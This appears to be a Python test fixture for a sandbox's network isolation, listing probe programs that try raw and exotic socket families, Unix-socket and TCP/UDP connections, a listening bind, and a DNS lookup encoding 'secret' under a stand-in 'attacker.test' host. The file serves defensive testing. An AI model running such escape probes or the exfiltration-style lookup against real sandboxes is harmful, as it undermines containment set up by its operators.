"""Programs that look for a way into a network. Each is bounded by itself."""

from tests.attacks.harness import Attack

PROGRAMS = (
    Attack(
        id="N02", language="python", status=("ok",), never_says=("OPENED",),
        code="import socket\nfor f,t in ((2,3),(17,3),(16,3),(40,1),(31,1),(38,5)):\n"
             "  try: socket.socket(f,t); print('OPENED',f,t)\n  except OSError as e: print(f,t,e.strerror)",
    ),
    Attack(
        id="N03", language="python", status=("ok",), never_says=("CONNECTED",),
        code="import socket\ntry:\n  a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_DGRAM)\n"
             "  a.sendto(b'x','@DATAGRAM@'); print('CONNECTED')\nexcept OSError as e: print(e)\n"
             "for a in ('\\0@ABSTRACT@','@PATHNAME@'):\n  s=socket.socket(socket.AF_UNIX)\n"
             "  try: s.connect(a); print('CONNECTED')\n  except OSError as e: print(e)\n"
             "for k,p in ((socket.SOCK_STREAM,@TCP@),(socket.SOCK_DGRAM,@UDP@)):\n  s=socket.socket(type=k)\n"
             "  try: s.connect(('@ADDRESS@',p)); s.send(b'x'); print('CONNECTED' if k==1 else 'sent')\n"
             "  except OSError as e: print(e)",
    ),
    Attack(
        id="N09", language="python", status=("failed",), says=("gaierror",),
        code="import socket\nsocket.getaddrinfo('c2VjcmV0.attacker.test',80)",
    ),
    Attack(
        id="N12", language="python", status=("ok",), says=("bound",),
        code="import socket\ns=socket.socket(); s.bind(('0.0.0.0',8888)); s.listen(); print('bound')",
    ),
    Attack(
        id="X27-families", language="python", status=("ok",),
        code="import socket\nfor f, t, p in ((16, 3, 0), (16, 3, 9), (16, 3, 15), (17, 3, 768), (38, 5, 0), (40, 1, 0), (31, 1, 1), (29, 3, 1), (30, 1, 0), (44, 3, 0), (2, 3, 1), (2, 3, 255), (10, 3, 58), (36, 1, 0), (21, 5, 0)):\n"
             "  try:\n    s = socket.socket(f, t, p)\n    print('OPEN', f, t, p)\n  except OSError as e: pass\n"
             "for target in (('@ADDRESS@', @TCP@), ('127.0.0.1', @TCP@)):\n  try: socket.create_connection(target, 1); print('CONNECTED')\n  except OSError: pass\n"
             "for path in ('\\0@ABSTRACT@', '@PATHNAME@'):\n  try: s = socket.socket(1); s.connect(path); print('CONNECTED')\n  except OSError: pass\n"
             "try: s = socket.socket(1, 2); s.sendto(b'x', '@DATAGRAM@'); print('CONNECTED')\nexcept OSError: pass\n"
             "try: print('RESOLVED', socket.getaddrinfo('localhost.localdomain.invalid', 80))\nexcept OSError: pass\nprint('done')",
        says=("done",), never_says=("CONNECTED", "RESOLVED", "OPEN 17", "OPEN 40", "OPEN 38", "OPEN 31", "OPEN 2 3"),
    ),
)  # fmt: skip
